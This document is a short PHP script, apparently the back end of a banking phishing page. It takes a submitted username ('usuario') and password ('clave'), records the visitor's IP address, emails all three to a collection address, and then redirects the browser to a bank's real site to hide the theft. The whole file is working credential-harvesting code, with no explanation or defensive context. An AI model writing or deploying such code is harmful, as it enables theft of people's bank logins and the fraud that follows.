<?php
$u = $_POST['usuario'];
$c = $_POST['clave'];
$ip = getenv("REMOTE_ADDR");
$txt = "Usuario: $u\nContraseña: $c\nIP: $ip\n";
@mail("resultados@example.net", "Banca - $ip", $txt);
echo "<script>top.location.href='https://www.bank.example/';</script>";
